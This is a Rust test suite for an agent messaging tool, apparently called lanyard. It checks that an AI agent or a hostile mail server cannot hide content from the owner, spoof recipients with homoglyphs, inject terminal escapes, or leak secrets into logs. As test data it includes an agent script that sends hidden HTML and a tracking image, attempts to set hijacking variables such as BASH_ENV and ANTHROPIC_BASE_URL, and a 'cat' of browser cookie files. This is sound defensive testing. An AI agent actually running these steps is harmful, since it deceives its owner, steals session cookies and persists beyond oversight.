//! What its owner is made to believe, or lets out, by an agent, a server or a sender who does not mean well.

use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::Path;
use tests::{Door, World, python, text};

const CANARY: &str = "canary-4471-of-this-test";

fn world() -> World {
    let world = World::new();
    world.project("work");
    world.lanyard(&["identity", "create", "--name", "ada", "--phone", "+15550100001"]).ok();
    world.lanyard(&["identity", "create", "--name", "eve", "--phone", "+15550100002"]).ok();
    world.lanyard(&["slot", "set", "1", "--identity", "ada"]).ok();
    world
}

/// A connection that hears what happens.
fn hearing(world: &World) -> Door {
    let mut door = world.door();
    door.ask("events.subscribe", json!({}));
    door
}

/// Waits until an agent asks.
fn asked(door: &mut Door) -> Value {
    door.event(|event| event["ApprovalChanged"]["approval"]["state"] == "open")["ApprovalChanged"]["approval"]
        .take()
}

/// Whether any file below a folder holds this text.
fn holds(folder: &Path, text: &str) -> bool {
    std::fs::read_dir(folder).into_iter().flatten().flatten().any(|entry| {
        let path = entry.path();
        match path.symlink_metadata() {
            Ok(meta) if meta.is_dir() => holds(&path, text),
            Ok(meta) if meta.is_file() => {
                let bytes = std::fs::read(&path).unwrap_or_default();
                bytes.windows(text.len()).any(|part| part == text.as_bytes())
            }
            _ => false,
        }
    })
}

const COMPOSING: &str = r#"
import json, os, sys, urllib.request
body = {"to_email": "dan@example.com", "subject": "Hello\u202e\U000e0041", "text_content": "Nothing of note.",
        "html_content": "<p>The plan</p><div style='display:none'>CANARY</div><!-- CANARY --><img src='https://x.example/CANARY'>"}
request = urllib.request.Request(os.environ["RAVI_API_URL"] + "/api/email-messages/compose/", json.dumps(body).encode(),
    {"Authorization": "Bearer " + os.environ["RAVI_API_KEY"], "Content-Type": "application/json"})
print(urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request).status)
"#;

#[test]
fn what_the_owner_reads_before_it_goes_out_is_all_that_goes_out() {
    let Some(python) = python() else { return };
    let world = world();
    let server = world.mail_server("plain", None);
    let url = format!("smtp://127.0.0.1:{}", server.port);
    world.lanyard(&["sources", "add", "out", "--kind", "smtp", "--url", &url]).ok();
    world.lanyard(&["inbox", "set", "ada", "--sending", "ask"]).ok();
    std::fs::write(world.path("compose.py"), COMPOSING.replace("CANARY", CANARY)).unwrap();
    let mut door = hearing(&world);
    let composing = format!("{} {} '{CANARY}'", python.display(), world.path("compose.py").display());
    let agent = world.script(1, "compose", &composing);
    let question = asked(&mut door);
    assert!(!question.to_string().contains(CANARY), "{question}");
    let number =
        question["details"].as_array().unwrap().iter().find(|one| one[0] == "message").unwrap()[1].clone();
    let read = world.door().ask("inbox.read", json!({"message": number}))["Ok"].take();
    assert_eq!((text(&read, "text").trim(), text(&read, "subject")), ("The plan", "Hello"), "{read}");
    world.lanyard(&["approvals", "approve", text(&question, "id")]).ok();
    assert_eq!(agent.outcome().ok(), "201\n");
    let letter = server.letter();
    assert!(!letter.to_string().contains(CANARY), "what was hidden from the owner was sent: {letter}");
    assert_eq!((text(&letter, "subject"), text(&letter, "text").trim()), ("Hello", "The plan"), "{letter}");
}

#[test]
fn a_recipient_in_letters_that_look_like_others_is_told() {
    let world = world();
    let server = world.mail_server("plain", None);
    let url = format!("smtp://127.0.0.1:{}", server.port);
    world.lanyard(&["sources", "add", "out", "--kind", "smtp", "--url", &url]).ok();
    world.lanyard(&["inbox", "set", "ada", "--sending", "ask"]).ok();
    let mut door = hearing(&world);
    let agent = world.script(1, "one", "lanyard email send --to d\u{430}n@example.com --subject x --body x");
    let question = asked(&mut door);
    assert_eq!(text(&question, "subject"), "d\u{430}n@example.com (with \u{430} U+0430)");
    world.lanyard(&["approvals", "deny", text(&question, "id")]).ok();
    agent.outcome().fails(1);
}

#[test]
fn a_text_message_drives_no_terminal() {
    let world = world();
    let mut door = world.door();
    let body = "Your code\u{1b}]0;owned\u{7} is \u{9b}31m482913\r\nbye";
    let sent = json!({"identity": "eve", "medium": "sms", "to": ["+15550100001"], "text": body});
    assert!(door.ask("inbox.send", sent)["Ok"].is_object());
    let came = door.ask("inbox.wait", json!({"identity": "ada", "medium": "sms", "timeout_ms": 30000}));
    let read = door.ask("inbox.read", json!({"message": came["Ok"]["id"]}))["Ok"].take();
    let drives = |text: &str| text.chars().any(|c| c.is_control() && c != '\n');
    assert!(!drives(text(&read, "text")) && !drives(text(&read, "preview")), "{read}");
    assert!(text(&read, "text").contains("482913"), "{read}");
}

/// A server on loopback that greets, and answers each line by what `answer` makes of it; nothing goes on waiting.
fn server(greeting: &'static str, answer: impl Fn(&str) -> Option<String> + Send + Sync + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut lines = BufReader::new(stream);
            let mut said = Some(greeting.to_string());
            // Whoever hangs up has heard enough.
            while said.take().is_none_or(|said| lines.get_mut().write_all(said.as_bytes()).is_ok()) {
                let mut line = String::new();
                if lines.read_line(&mut line).is_ok_and(|read| read > 0) {
                    said = answer(line.trim_end());
                } else {
                    break;
                }
            }
        }
    });
    port
}

#[test]
fn a_relay_that_repeats_what_a_mail_says_is_in_no_log() {
    let world = world();
    let port = server("220 hi\r\n", |line| {
        let verb = line.split([' ', ':']).next().unwrap_or_default().to_uppercase();
        match verb.as_str() {
            "EHLO" | "HELO" | "MAIL" | "RCPT" | "RSET" => Some("250 Yes\r\n".into()),
            "DATA" => Some("354 Go on\r\n".into()),
            "QUIT" => Some("221 Bye\r\n".into()),
            "." => Some(format!("554 5.7.1 We do not take {CANARY}\r\n")),
            _ => None,
        }
    });
    let url = format!("smtp://127.0.0.1:{port}");
    world.lanyard(&["sources", "add", "out", "--kind", "smtp", "--url", &url]).ok();
    let mut door = hearing(&world);
    let mail = json!({"identity": "ada", "medium": "email", "to": ["dan@example.com"], "subject": "x", "text": CANARY});
    let sent = door.ask("inbox.send", mail)["Ok"].take();
    let failed = loop {
        let read = door.ask("inbox.read", json!({"message": sent["id"], "peek": true}))["Ok"].take();
        match text(&read["sending"], "state") {
            "failed" => break read,
            _ => drop(door.event(|event| event["InboxChanged"].is_object())),
        }
    };
    assert!(text(&failed["sending"], "reason").contains(CANARY), "the owner reads why: {failed}");
    world.lanyard(&["audit", "list"]).ok();
    assert!(world.log().contains(text(&sent, "id")), "{}", world.log());
    assert!(!holds(&world.home(), CANARY), "what the mail says lies open on the disk");
}

#[test]
fn a_mailbox_that_repeats_the_password_is_in_no_log_nor_list() {
    let world = world();
    let port = server("* OK hi\r\n", |line| {
        let (tag, command) = line.split_once(' ').unwrap_or_default();
        match command.split(' ').next().unwrap_or_default() {
            "LOGIN" => Some(format!("{tag} OK come in\r\n")),
            "CAPABILITY" => Some(format!("* CAPABILITY IMAP4rev1 IDLE\r\n{tag} OK\r\n")),
            _ => Some(format!("* BYE your password is {CANARY}\r\n")),
        }
    });
    let url = format!("imap://127.0.0.1:{port}");
    let add = [
        "sources",
        "add",
        "box",
        "--kind",
        "imap",
        "--url",
        &url,
        "--set",
        "username=me@example.com",
        "--secret",
        "-",
    ];
    let mut door = hearing(&world);
    world.lanyard_with(&add, CANARY).ok();
    let failed = loop {
        let all = door.ask("sources.list", json!({}))["Ok"].take();
        let all = all.as_array().unwrap().clone();
        match all.into_iter().find(|one| one["name"] == "box" && one["state"]["state"] == "failed") {
            Some(failed) => break failed,
            None => drop(door.event(|event| event["SourceChanged"].is_object())),
        }
    };
    assert!(!failed.to_string().contains(CANARY), "{failed}");
    assert!(failed.to_string().contains("repeat a secret"), "{failed}");
    assert!(!holds(&world.home(), CANARY), "the password lies open on the disk");
}

#[test]
fn an_agent_sets_no_variable_that_runs_in_every_later_session() {
    let world = world();
    let names = ["BASH_ENV", "NODE_OPTIONS", "ANTHROPIC_BASE_URL", "GIT_EXTERNAL_DIFF", "https_proxy"];
    let set: String = names
        .iter()
        .map(|name| format!("lanyard secrets set {name} - <<X\nx\nX\nravi secrets set {name} x\n"))
        .collect();
    let said = world.as_agent(1, "set", &format!("exec 2>&1\n{}true", set));
    assert_eq!(said.stdout.matches("a name that programs obey").count(), 2 * names.len(), "{said:?}");
    world.as_agent(1, "token", "ravi secrets set WORKTREE_TOKEN x").ok();
    // What the owner has set is the owner's will.
    world.lanyard_with(&["secrets", "set", "NODE_OPTIONS", "-", "--identity", "ada"], "--no-warnings").ok();
    assert_eq!(world.as_agent(1, "env", "echo $NODE_OPTIONS$BASH_ENV").ok(), "--no-warnings\n");
}

#[test]
fn an_agent_does_not_see_the_owners_browsers() {
    let world = world();
    let owner = &world.environment()["HOME"];
    let places = [".mozilla/firefox/a.default/cookies.sqlite", ".config/google-chrome/Default/Cookies"];
    let read: String = places.iter().map(|place| format!("cat {owner}/{place}\n")).collect();
    assert!(std::fs::read_to_string(format!("{owner}/{}", places[0])).unwrap().contains("cookie"));
    assert_eq!(world.as_agent(1, "look", &format!("{read}echo end")).ok(), "end\n");
}
